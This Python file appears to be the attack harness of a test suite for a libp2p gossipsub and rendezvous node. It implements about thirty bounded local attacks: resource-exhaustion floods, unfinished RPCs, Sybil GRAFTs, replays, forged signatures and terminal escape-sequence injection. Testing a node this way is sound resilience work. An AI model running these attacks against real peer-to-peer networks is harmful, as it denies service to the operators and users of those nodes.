"""The attacks, one function each. A process runs one of them, or all at once, against one address.

Every attack comes from addresses of its own in 127.0.0.0/8, is bounded in bytes and ends by the clock; who is put out
comes back under another name, as an attacker would. Connections to be held are held until the end. Lines of JSON on
stdout: `set` when an attack is prepared that others wait for, `done` with what was counted.
"""

from __future__ import annotations

import argparse
import asyncio
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack, suppress
from functools import partial
from os import urandom
from time import monotonic

from attacks_on_connections import empty_frames, idle_connections, one_byte_frames
from attacks_on_relays import disputed_messages, equivocations, exchange_floods, partial_groups
from raw_peer import MESHSUB, Gone, Target
from scene import Scene, say
from signatures import EXPENSIVE_KEYS, forged_messages, message_of_small_order

from hearsay.core.language.rpc import Control, Extension, Graft, IWant, Message, PeerInfo, Prune, Rpc, Subscription
from hearsay.libp2p.frames import FrameReader, frame
from hearsay.libp2p.identify import PROTOCOL as IDENTIFY
from hearsay.libp2p.names.keys import PrivateKey
from hearsay.libp2p.names.multiaddr import Multiaddr
from hearsay.libp2p.names.peer_id import peer_id_of
from hearsay.libp2p.names.protobuf import DELIMITED, walk
from hearsay.libp2p.names.protobuf import encode as varint
from hearsay.libp2p.rendezvous import PROTOCOL as RENDEZVOUS
from hearsay.libp2p.rendezvous import MessageType, PeerRecord, RendezvousMessage, encode_message, seal_record
from hearsay.wire.encode import encode_rpc
from hearsay.wire.messages import by_author
from hearsay.wire.signing import Author, SignaturePolicy

MIB = 1 << 20
BIG = MIB - 4096


async def discovers_unread(scene: Scene) -> None:
    """Registers records as long as allowed, then asks 600 times for all of them and reads nothing."""
    for padding in (_padding(), _padding()[:28]):
        await _register(scene, "stuffed", 60, padding)
    question = frame(encode_message(RendezvousMessage(type=MessageType.DISCOVER, namespace="stuffed")))

    async def ask() -> None:
        peer = await scene.connect()
        stream = peer.open(RENDEZVOUS)
        await asyncio.sleep(0.2)
        peer.stop_reading()
        for _ in range(6):
            await peer.write(stream, question * 100)
            scene.counts["questions"] += 100
            await asyncio.sleep(0.1)
        await scene.hold(peer)

    await scene.again(ask)


async def unfinished_questions(scene: Scene) -> None:
    """200 streams to the rendezvous point, with a question of 256 KiB on each that lacks its last bytes."""
    question = varint(1 << 18) + bytes((1 << 18) - 1000)

    async def ask() -> None:
        peer = await scene.connect()
        for first in range(0, 200, 20):
            streams = [peer.open(RENDEZVOUS) for _ in range(20)]
            await asyncio.gather(*(peer.write(stream, question) for stream in streams), return_exceptions=True)
            scene.counts["streams"] += first and 20
        await scene.hold(peer)

    await scene.again(ask)


async def long_topic_names(scene: Scene) -> None:
    """Subscribes to 250 topics with names of a mebibyte."""
    left = [250]

    async def subscribe() -> None:
        peer, stream = await scene.member()
        while left[0] and not scene.over:
            left[0] -= 1
            name = urandom(8).hex() + "n" * (BIG - 16)
            await peer.write(stream, frame(encode_rpc(Rpc((Subscription(name, True),)))))
            scene.counts["names"] += 1
        await scene.hold(peer)

    await scene.again(subscribe)


async def expensive_signatures(scene: Scene, kind: str) -> None:
    """A mebibyte a second of messages whose wrong signatures take long to check."""

    async def flood() -> None:
        peer, stream = await scene.member("news")
        while not scene.over:
            messages = forged_messages(kind, MIB - 2000)
            await peer.write(stream, frame(messages))
            scene.counts["MiB"] += 1
            await asyncio.sleep(1)

    await scene.again(flood)


async def idle_sockets(scene: Scene, count: int = 140) -> None:
    """140 sockets of one address that say nothing, opened again when they are closed."""

    async def idle() -> None:
        try:
            reader, writer = await asyncio.open_connection(*scene.target, local_addr=(scene.source(), 0))
        except OSError as error:
            raise Gone(str(error)) from None
        scene.counts["sockets"] += 1
        try:
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout_at(asyncio.get_running_loop().time() + scene.until - monotonic()):
                    while await reader.read(4096):
                        pass
        finally:
            writer.close()

    await asyncio.gather(*(scene.again(idle) for _ in range(count)))


async def slow_validator_flood(scene: Scene, peers: int = 1) -> None:
    """Right messages to a topic whose validator takes a second, 8,000 of them as fast as they are taken."""

    async def flood(source: str) -> None:
        identity = PrivateKey.generate()
        author = Author(identity, 1)
        peer, stream = await scene.member("slow", source=source, identity=identity)
        for _ in range(40):
            if scene.over:
                break
            messages = tuple(_written(author, "slow", b"flood") for _ in range(200))
            await peer.write(stream, frame(encode_rpc(Rpc((), messages))))
            scene.counts["messages"] += 200
            await asyncio.sleep(0.05)
        await scene.hold(peer)

    await asyncio.gather(*(scene.again(partial(flood, scene.source(1 + number))) for number in range(peers)))


async def tiny_rpcs(scene: Scene) -> None:
    """RPCs of 3 to 13 bytes, as fast as they are taken."""
    kinds = [b"\x02\x1a\x00", frame(encode_rpc(Rpc((Subscription("ab", True),)))), b"\x02\x0a\x00",
             frame(encode_rpc(Rpc((Subscription("ab", False),))))]  # fmt: skip
    piece = b"".join(kinds) * 2000

    async def flood() -> None:
        peer, stream = await scene.member("news")
        while not scene.over:
            await peer.write(stream, piece)
            scene.counts["kB"] += len(piece) // 1000

    await scene.again(flood)


async def malformed_rpcs(scene: Scene) -> None:
    """RPCs that cannot be read, on a new stream each time the last one is reset."""
    nonsense = b"\x05\x0a\xff\xff\xff\x7f"

    async def flood() -> None:
        peer, _ = await scene.member("news")
        while not scene.over:
            streams = [peer.open(MESHSUB, nonsense) for _ in range(8)]
            scene.counts["malformed"] += 8
            await peer.drain()
            for _ in range(50):
                if not any(peer.has(stream) for stream in streams):
                    break
                await asyncio.sleep(0.005)
            if peer.closed.is_set():
                raise Gone

    await scene.again(flood)


async def poisoned_rendezvous(scene: Scene) -> None:
    """45 registrations with 40 addresses each where no peer answers, and 40 records as long as they may be."""
    async with AsyncExitStack() as stack:
        tarpits: list[Multiaddr] = []
        for number in range(1, 41):
            server = await asyncio.start_server(_tarpit, scene.source(number), 0)
            stack.callback(server.close)
            host, port = server.sockets[0].getsockname()[:2]
            tarpits.append(Multiaddr.parse(f"/ip4/{host}/tcp/{port}"))
        await _register(scene, "meet", 45, tarpits)
        for padding in (_padding(), _padding()[:28]):
            await _register(scene, "meet", 40, padding)
        say({"event": "set"})
        await scene.until_over()


async def _tarpit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(OSError):
        while await reader.read(4096):
            pass
    writer.close()


async def names_in_unverified_messages(scene: Scene) -> None:
    """24 MiB of messages without signatures, each with an author, an id and a topic that no node knows."""
    left = [24]

    async def flood() -> None:
        peer, stream = await scene.member("news")
        while left[0] and not scene.over:
            left[0] -= 1
            messages: list[Message] = []
            for place in range(7000):
                topic = "news" if place % 2 else urandom(24).hex()
                messages.append(Message(b"", topic, b"", b"\x12\x20" + urandom(32), urandom(8), bytes(16)))
            await peer.write(stream, frame(encode_rpc(Rpc((), tuple(messages)))[:MIB]))
            scene.counts["MiB"] += 1
            await asyncio.sleep(0.05)
        await scene.hold(peer)

    await scene.again(flood)


async def stopped_peers(scene: Scene) -> None:
    """Six members of the mesh stop: they read nothing, answer nothing, and keep their sockets."""
    peers = await asyncio.gather(
        *(scene.member("news", source=scene.source(1 + i // 2), graft=True) for i in range(6))
    )
    await asyncio.sleep(1)
    for peer, _ in peers:
        peer.stop_reading()
    await scene.until_over()


async def same_data_two_topics(scene: Scene) -> None:
    """No attack: honest nodes say the same in two topics, unsigned."""
    await scene.until_over()


async def unread_streams(scene: Scene) -> None:
    """20 connections of two addresses, on each 60 streams that ask who the target is and talk on for 250 kB."""

    async def talk(source: str) -> None:
        peer = await scene.connect(source)
        chatter = bytes(250_000)
        for _ in range(3):
            streams = [peer.open(IDENTIFY) for _ in range(20)]
            await asyncio.gather(*(peer.write(stream, chatter) for stream in streams), return_exceptions=True)
            scene.counts["streams"] += 20
        await scene.hold(peer)

    await asyncio.gather(*(scene.again(partial(talk, scene.source(1 + number // 10))) for number in range(20)))


async def kept_messages(scene: Scene, topic: str = "news", budget: int = 300) -> None:
    """Right messages of a mebibyte, 300 of them as fast as they are taken."""
    left = [budget]

    async def flood() -> None:
        identity = PrivateKey.generate()
        author = Author(identity, 1)
        peer, stream = await scene.member(topic, identity=identity)
        while left[0] and not scene.over:
            left[0] -= 1
            message = _written(author, topic, bytes(BIG))
            await peer.write(stream, frame(encode_rpc(Rpc((), (message,)))))
            scene.counts["MiB"] += 1
        await scene.hold(peer)

    await scene.again(flood)


async def wanted_messages(scene: Scene) -> None:
    """100 messages of a mebibyte, and another peer that asks for all of them in one RPC and reads nothing."""

    async def ask() -> None:
        identity = PrivateKey.generate()
        author = Author(identity, 1)
        greedy, wants = await scene.member(source=scene.source(2))
        greedy.stop_reading()
        peer, stream = await scene.member("news", identity=identity)
        ids: list[bytes] = []
        for _ in range(100):
            if scene.over:
                break
            message = _written(author, "news", bytes(BIG))
            ids.append(by_author("news", author.peer, message.seqno, message.data))
            await peer.write(stream, frame(encode_rpc(Rpc((), (message,)))))
            scene.counts["MiB"] += 1
            if len(ids) % 20 == 0:
                await greedy.write(wants, frame(encode_rpc(Rpc(control=Control(iwant=(IWant(tuple(ids)),))))))
        await scene.hold(peer, greedy)

    await scene.again(ask)


async def unfinished_rpcs(scene: Scene) -> None:
    """100 connections of one address, an RPC of a mebibyte on each that lacks its last bytes."""
    most = varint(MIB) + bytes(MIB - 1000)

    async def talk() -> None:
        peer, stream = await scene.member()
        await peer.write(stream, most)
        scene.counts["unfinished"] += 1
        await scene.hold(peer)

    await asyncio.gather(*(scene.again(talk) for _ in range(100)))


async def grafting_sybils(scene: Scene) -> None:
    """60 peers of one address that GRAFT every second and forward nothing."""

    async def graft() -> None:
        peer, stream = await scene.member("news", graft=True)
        while not scene.over:
            await asyncio.sleep(1)
            await peer.write(stream, frame(encode_rpc(Rpc(control=Control(graft=(Graft("news"),))))))
            scene.counts["grafts"] += 1

    await asyncio.gather(*(scene.again(graft) for _ in range(60)))


async def replays(scene: Scene) -> None:
    """Records what honest nodes say, waits until the target has forgotten it, and says it again."""
    recorded: list[bytes] = []

    async def record() -> None:
        peer, _ = await scene.member("news", graft=True)
        reader = FrameReader(4 * MIB)

        def listen(data: bytes) -> None:
            for rpc in reader.receive(data):
                recorded.extend(
                    rpc[start:stop]
                    for number, kind, start, stop in walk(rpc, 0, len(rpc))
                    if number == 2 and kind == DELIMITED
                )

        peer.on_rpcs = listen
        while len(recorded) < 20 and not scene.over and not peer.closed.is_set():
            await asyncio.sleep(0.05)
        peer.close()

    while len(recorded) < 20 and not scene.over:
        with suppress(Gone):
            await record()
    await asyncio.sleep(4)

    async def repeat() -> None:
        peer, stream = await scene.member("news")
        for message in recorded[:20]:
            await peer.write(stream, frame(b"\x12" + varint(len(message)) + message))
            scene.counts["replayed"] += 1
        await asyncio.sleep(1)
        await scene.hold(peer)

    with suppress(Gone):
        await repeat()
    await scene.until_over()


async def unasked_records(scene: Scene) -> None:
    """Signed addresses of strangers that no peer asked for: next to control, and in PRUNEs."""
    strangers = [PrivateKey.generate() for _ in range(64)]
    somewhere = (Multiaddr.parse("/ip4/127.255.0.1/tcp/9"),)

    async def flood() -> None:
        peer, stream = await scene.member("news")
        while not scene.over:
            infos: list[PeerInfo] = []
            for stranger in strangers:
                name = peer_id_of(stranger.public)
                infos.append(PeerInfo(name, seal_record(stranger, PeerRecord(name, 1, somewhere))))
            records = tuple(Extension(1 << 22, info.record) for info in infos if info.record)
            rpc = Rpc(control=Control(prune=(Prune("news", 1, tuple(infos)),), extensions=records))
            await peer.write(stream, frame(encode_rpc(rpc)))
            scene.counts["records"] += 128
            strangers[:] = [PrivateKey.generate() for _ in range(64)]
            await asyncio.sleep(0.02)

    await scene.again(flood)


async def small_order_keys(scene: Scene) -> None:
    """Messages of an author whose key is a point of small order, with a signature that fits everything."""

    async def speak() -> None:
        peer, stream = await scene.member("news")
        while not scene.over:
            await peer.write(stream, frame(message_of_small_order(b"forged " + urandom(4))))
            scene.counts["forged"] += 1
            await asyncio.sleep(0.2)

    await scene.again(speak)


async def terminal_control(scene: Scene) -> None:
    """Messages that would forge lines and drive the terminal of a user that prints them as they are."""
    identity = PrivateKey.generate()
    author = Author(identity, 1)

    async def speak() -> None:
        peer, stream = await scene.member("news", identity=identity)
        while not scene.over:
            data = b"hello\r\n\x1b]0;owned\x07\x1b[2Jforged line \xc2\x9b31m"
            await peer.write(stream, frame(encode_rpc(Rpc((), (_written(author, "news", data),)))))
            scene.counts["messages"] += 1
            await asyncio.sleep(0.2)

    await scene.again(speak)


ATTACKS: dict[str, Callable[[Scene], Awaitable[None]]] = {
    "discovers-unread": discovers_unread,
    "discovers-unread/unfinished": unfinished_questions,
    "long-topic-names": long_topic_names,
    **{f"expensive-signatures/{kind}": partial(expensive_signatures, kind=kind) for kind in EXPENSIVE_KEYS},
    "idle-sockets": idle_sockets,
    "slow-validator-flood": slow_validator_flood,
    "slow-validator-flood/four": partial(slow_validator_flood, peers=4),
    "tiny-rpcs": tiny_rpcs,
    "tiny-rpcs/malformed": malformed_rpcs,
    "poisoned-rendezvous": poisoned_rendezvous,
    "names-in-unverified-messages": names_in_unverified_messages,
    "stopped-peers": stopped_peers,
    "same-data-two-topics": same_data_two_topics,
    "bytes-kept/unread-streams": unread_streams,
    "bytes-kept/message-cache": kept_messages,
    "bytes-kept/validations": partial(kept_messages, topic="slow"),
    "bytes-kept/wanted": wanted_messages,
    "bytes-kept/application": partial(kept_messages, topic="unread"),
    "bytes-kept/unfinished-rpcs": unfinished_rpcs,
    "grafting-sybils": grafting_sybils,
    "replays": replays,
    "unasked-records": unasked_records,
    "small-order-keys": small_order_keys,
    "terminal-control": terminal_control,
    "few-files": partial(idle_sockets, count=200),
    "disputed-messages": disputed_messages,
    "idle-connections": idle_connections,
    "tiny-frames/one-byte": one_byte_frames,
    "tiny-frames/empty": empty_frames,
    "exchange-floods": exchange_floods,
    "equivocations": equivocations,
    "partial-groups": partial_groups,
    "partial-groups/right": partial(partial_groups, right=True),
}


def _written(author: Author, topic: str, data: bytes) -> Message:
    return author.write(topic, data, SignaturePolicy.STRICT_SIGN)


def _padding() -> list[Multiaddr]:
    """Addresses for a record of nearly 8 KiB; 28 of them make one of nearly 4 KiB."""
    return [Multiaddr.parse(f"/dns4/{'p' * 110}{number:03}.invalid/tcp/1") for number in range(60)]


async def _register(scene: Scene, namespace: str, count: int, addresses: list[Multiaddr]) -> None:
    """Under as many names as asked for, one after the other, until no more are let in."""
    refused = 0
    for place in range(count):
        identity = PrivateKey.generate()
        record = seal_record(identity, PeerRecord(peer_id_of(identity.public), 1, tuple(addresses)))
        message = RendezvousMessage(type=MessageType.REGISTER, namespace=namespace, record=record, ttl_s=7200)
        try:
            peer = await scene.connect(scene.source(1 + place % 4), identity)
        except Gone:
            refused += 1
            if refused > 8 or scene.over:
                return
            continue
        answered = asyncio.Event()
        peer.on_data = lambda _stream, data, answered=answered: answered.set() if len(data) < 30 else None
        with suppress(Gone, TimeoutError):
            async with asyncio.timeout(1):
                stream = peer.open(RENDEZVOUS)
                await peer.write(stream, frame(encode_message(message)))
                await answered.wait()
                await asyncio.sleep(0.01)
        peer.close()
        scene.counts["registrations"] += 1


async def run(flags: argparse.Namespace) -> None:
    until = monotonic() + flags.seconds
    relays = tuple(map(target_of, filter(None, flags.relays.split(","))))
    names = list(ATTACKS)
    part, parts = map(int, flags.part.split("/"))
    chosen = names[part::parts] if flags.attack == "all" else [flags.attack]
    without = set(flags.without.split(","))
    scenes = {
        name: Scene(target_of(flags.target), 20 + names.index(name), until, relays, flags.addresses)
        for name in chosen
        if name not in without
    }
    await asyncio.gather(*(_bounded(name, scene) for name, scene in scenes.items()))
    counts = {name: dict(scene.counts) for name, scene in scenes.items()}
    peers = sorted(peer.hex() for scene in scenes.values() for peer in scene.peers)
    say({"event": "done", "counts": counts, "peers": peers})


async def _bounded(name: str, scene: Scene) -> None:
    with suppress(Gone, TimeoutError):
        async with asyncio.timeout(scene.until - monotonic() + 1):
            await ATTACKS[name](scene)


def target_of(address: str) -> Target:
    endpoint = Multiaddr.parse(address).tcp_endpoint
    if endpoint is None:
        raise ValueError(f"{address}: not an address of TCP")
    return Target(*endpoint)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=[*ATTACKS, "all"])
    parser.add_argument("target", help="its multiaddr")
    parser.add_argument("--relays", default="", help="multiaddrs of honest peers of the target")
    parser.add_argument("--addresses", type=int, default=1, help="that take turns where an attack would use one")
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--without", default="", help="of all: not these, separated by commas")
    parser.add_argument("--part", default="0/1", help="of all: a share of them, the first is 0")
    asyncio.run(run(parser.parse_args()))


if __name__ == "__main__":
    main()
